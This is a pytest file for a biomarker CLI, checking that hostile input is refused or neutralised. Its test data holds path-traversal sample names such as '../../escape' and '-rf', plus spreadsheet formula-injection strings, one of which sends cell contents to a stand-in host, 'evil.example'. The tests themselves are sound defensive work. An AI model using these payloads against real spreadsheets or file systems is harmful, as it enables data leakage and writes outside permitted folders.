"""Hostile and clumsy input through the CLI as a user runs it: one line and exit 2, nothing outside --out.

Each test runs the command from a scratch folder and checks the exit code, the single stderr line, and which
files exist afterwards: in this process through :func:`run_cli`, except a run with worker processes whose whole
stderr is asserted (workers write to the stderr of a real process only).
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from biomarker.simulate import simulate_study
from biomarker.store import Store
from tests.cli_runner import run_cli

ROWS = ["sample", "usubjid", "status", "counted_variants", "territory_bp", "tmb_per_mb", "input_sha256"]


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    return simulate_study(tmp_path_factory.mktemp("study"), n_patients=2, seed=5, exome_mb=0.5)


@pytest.fixture(scope="module")
def sheet_rows(study) -> list[dict[str, str]]:
    """The simulated samplesheet's rows with absolute paths (so sheets can be written anywhere)."""
    with open(study.samplesheet, newline="") as fh:
        rows = list(csv.DictReader(fh))
    for r in rows:
        r["vcf"] = str(study.outdir / r["vcf"])
        r["bed"] = str(study.outdir / r["bed"])
    return rows


def cli(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return run_cli(*args, cwd=cwd)


def cli_process(*args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The command in a process of its own (its worker processes write to its stderr)."""
    return subprocess.run(
        [sys.executable, "-m", "biomarker.cli", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
    )


def one_error_line(proc: subprocess.CompletedProcess[str]) -> str:
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, proc.stderr
    assert lines[0].startswith("biomarker: error: ") and "Traceback" not in proc.stderr
    return lines[0]


def files_under(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def write_sheet(path: Path, rows: list[dict[str, str]], sep: str = ",", newline: str = "\n", bom: bool = False) -> Path:
    columns = list(rows[0])
    lines = [sep.join(columns)] + [sep.join(r[c] for c in columns) for r in rows]
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + (newline.join(lines) + newline).encode())
    return path


def stored_rows(db: Path) -> pd.DataFrame:
    with Store(db, read_only=True) as store:
        return store.table("tmb_results")[ROWS].sort_values("sample").reset_index(drop=True)


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("../../escape", "contains '/'"),
        ("/tmp/abs-escape", "contains '/'"),
        ("sub/dir", "contains '/'"),
        ("..", "contains '..'"),
        ("-rf", "starts with '-'"),
        ("a\\b", "contains '\\\\'"),
        ("bell\x07", "contains a control character"),
    ],
)
def test_a_sample_name_that_would_escape_out_is_refused(sheet_rows, tmp_path, name, problem) -> None:
    rows = [dict(sheet_rows[0]), dict(sheet_rows[1], sample=name)]
    write_sheet(tmp_path / "sheet.csv", rows)
    before = files_under(tmp_path)
    proc = cli("batch", "sheet.csv", "--store", "out/s.duckdb", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 2
    line = one_error_line(proc)
    assert "sheet.csv: line 3: sample name" in line and problem in line
    assert files_under(tmp_path) == before and not (tmp_path / "out").exists()
    assert not Path("/tmp/abs-escape.tmb.json").exists()


def test_tmb_sample_id_that_would_escape_out_is_refused(study, tmp_path) -> None:
    work = tmp_path / "deep" / "work"
    work.mkdir(parents=True)
    proc = cli("tmb", study.vcfs[0], "--targets", study.bed, "--sample-id", "../../escaped", "--out", "out", cwd=work)
    assert proc.returncode == 2
    assert "--sample-id '../../escaped' contains '/'" in one_error_line(proc)
    assert files_under(tmp_path) == set()


def test_excel_and_tsv_samplesheets_read_as_the_same_sheet(sheet_rows, tmp_path) -> None:
    sheet_rows = sheet_rows[:3]  # a VCF, a tumour-only VCF and a MAF
    write_sheet(tmp_path / "plain.csv", sheet_rows)
    write_sheet(tmp_path / "excel.csv", sheet_rows, sep=";", newline="\r\n", bom=True)
    write_sheet(tmp_path / "sheet.tsv", sheet_rows, sep="\t")
    results = {}
    for sheet in ("plain.csv", "excel.csv", "sheet.tsv"):
        proc = cli("batch", sheet, "--store", f"{sheet}.duckdb", "--out", f"out-{sheet}", cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr
        results[sheet] = stored_rows(tmp_path / f"{sheet}.duckdb")
    assert len(results["plain.csv"]) == 3 and set(results["plain.csv"].status) == {"ok"}
    pd.testing.assert_frame_equal(results["excel.csv"], results["plain.csv"])
    pd.testing.assert_frame_equal(results["sheet.tsv"], results["plain.csv"])


def test_a_sheet_with_another_separator_is_refused_by_name(sheet_rows, tmp_path) -> None:
    write_sheet(tmp_path / "sheet.csv", sheet_rows, sep="|")
    proc = cli("batch", "sheet.csv", "--store", "out/s.duckdb", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 2
    line = one_error_line(proc)
    assert "missing column(s) sample, vcf" in line and "['patient|sample|vcf|bed|type']" in line
    assert not (tmp_path / "out").exists()


def test_a_missing_samplesheet_is_one_line(tmp_path) -> None:
    proc = cli("batch", "nosuch.csv", "--store", "out/s.duckdb", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 2
    assert one_error_line(proc) == (
        "biomarker: error: nosuch.csv: file not found; give the path of a samplesheet (CSV: sample,vcf[,patient,bed])"
    )
    assert files_under(tmp_path) == set()


def test_an_out_folder_under_a_file_is_one_line(sheet_rows, tmp_path) -> None:
    write_sheet(tmp_path / "sheet.csv", sheet_rows)
    (tmp_path / "taken").write_text("a file, not a folder\n")
    before = files_under(tmp_path)
    proc = cli("batch", "sheet.csv", "--store", "s.duckdb", "--out", "taken/tmb", cwd=tmp_path)
    assert proc.returncode == 2
    assert "taken/tmb: --out: cannot create the folder (taken is a file)" in one_error_line(proc)
    assert files_under(tmp_path) == before  # no store either: nothing ran
    proc = cli("batch", "sheet.csv", "--store", "taken/s.duckdb", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 2 and "--store: cannot create the folder" in one_error_line(proc)


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes through any permission bits")
def test_an_out_folder_without_permission_is_one_line(sheet_rows, tmp_path) -> None:
    write_sheet(tmp_path / "sheet.csv", sheet_rows)
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    try:
        proc = cli("batch", "sheet.csv", "--store", "s.duckdb", "--out", "locked/tmb", cwd=tmp_path)
    finally:
        locked.chmod(0o700)
    assert proc.returncode == 2 and "cannot create the folder (Permission denied)" in one_error_line(proc)


def test_failed_samples_exit_3_with_reasons_unless_allowed(sheet_rows, tmp_path) -> None:
    bad = tmp_path / "bad.vcf.gz"
    bad.write_bytes(Path(sheet_rows[0]["vcf"]).read_bytes()[:3000])
    rows = [
        sheet_rows[0],
        dict(sheet_rows[1], sample="BAD", vcf=str(bad)),
        dict(sheet_rows[1], sample="GONE", vcf=str(tmp_path / "gone.vcf.gz")),
    ]
    write_sheet(tmp_path / "sheet.csv", rows)
    proc = cli_process("batch", "sheet.csv", "--store", "s.duckdb", "--out", "out", "-j", "2", cwd=tmp_path)
    assert proc.returncode == 3
    lines = proc.stderr.splitlines()
    assert len(lines) == 3 and "Traceback" not in proc.stderr
    assert lines[0].startswith("biomarker: failed: BAD: ") and "truncated" in lines[0]
    assert lines[1] == f"biomarker: failed: GONE: {tmp_path / 'gone.vcf.gz'}: no such file"
    assert lines[2].startswith("biomarker: error: 2 sample(s) failed")
    status = dict(zip(*stored_rows(tmp_path / "s.duckdb")[["sample", "status"]].T.values, strict=True))
    assert status == {sheet_rows[0]["sample"]: "ok", "BAD": "failed", "GONE": "failed"}
    log = (tmp_path / "out" / "batch.log").read_text()
    assert "failed  GONE: " in log and log.rstrip().endswith("1 computed, 0 unchanged and skipped, 2 failed")
    allowed = cli("batch", "sheet.csv", "--store", "s.duckdb", "--out", "out", "--allow-failures", cwd=tmp_path)
    assert allowed.returncode == 0 and allowed.stderr.count("biomarker: failed: ") == 2
    assert "0 computed, 1 unchanged and skipped, 2 failed" in allowed.stdout
    assert (tmp_path / "out" / "batch.log").read_text().count("  start  ") == 2


def test_formula_text_in_the_results_table_is_neutralised(sheet_rows, tmp_path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [dict(sheet_rows[0], patient=hostile), dict(sheet_rows[1], patient="+SUM(1,2)")]
    write_sheet(tmp_path / "sheet.tsv", rows, sep="\t")
    proc = cli("batch", "sheet.tsv", "--store", "s.duckdb", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    table = pd.read_csv(tmp_path / "out" / "tmb_results.tsv", sep="\t")
    assert table["usubjid"].tolist() == ["'" + hostile, "'+SUM(1,2)"]
    assert table["sample"].tolist() == [r["sample"] for r in rows]  # safe names stay as they are
    assert table["tmb_per_mb"].dtype == float and (table["tmb_per_mb"] > 0).all()
    assert stored_rows(tmp_path / "s.duckdb")["usubjid"].tolist() == sorted([hostile, "+SUM(1,2)"])  # store: as given


def test_formula_text_in_the_pdl1_table_is_neutralised(tmp_path) -> None:
    (tmp_path / "pdl1.csv").write_text('USUBJID,ASSAY,PDL1_TPS\n"=HYPERLINK(""x"")",22C3,55%\n@SUM(A1),22C3,-\n')
    proc = cli("pdl1", "pdl1.csv", "--out", "out", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    table = pd.read_csv(tmp_path / "out" / "pdl1.tsv", sep="\t").set_index("usubjid")
    assert sorted(table.index) == ['\'=HYPERLINK("x")', "'@SUM(A1)"]
    assert table.loc['\'=HYPERLINK("x")', "pdl1_tps_pct"] == 55.0  # numbers stay numbers


def test_conflicting_pathology_duplicates_name_both_lines(tmp_path) -> None:
    (tmp_path / "pdl1.csv").write_text("USUBJID,ASSAY,PDL1_TPS\nS1,22C3,55%\nS2,22C3,10%\nS1,22C3,<1%\n")
    proc = cli("pdl1", "pdl1.csv", "--out", "out/pdl1.tsv", cwd=tmp_path)
    assert proc.returncode == 2
    line = one_error_line(proc)
    assert "pdl1.csv: line 2 and line 4: subject S1 (22C3) is reported twice with conflicting values" in line
    assert "line 2: TPS 55%" in line and "line 4: TPS <1%" in line
    assert not (tmp_path / "out").exists()


def test_any_command_with_an_out_under_a_file_is_one_line(study, tmp_path) -> None:
    (tmp_path / "taken").write_text("a file, not a folder\n")
    before = files_under(tmp_path)
    proc = cli("pdl1", study.outdir / "pathology" / "pdl1_til.csv", "--out", "taken/pdl1", cwd=tmp_path)
    assert proc.returncode == 2
    line = one_error_line(proc)
    assert line.startswith("biomarker: error: taken") and "file" in line
    proc = cli("tmb", study.vcfs[0], "--targets", study.bed, "--out", "taken/sub/tmb", cwd=tmp_path)
    assert proc.returncode == 2 and "--out: cannot create the folder (taken is a file)" in one_error_line(proc)
    assert files_under(tmp_path) == before
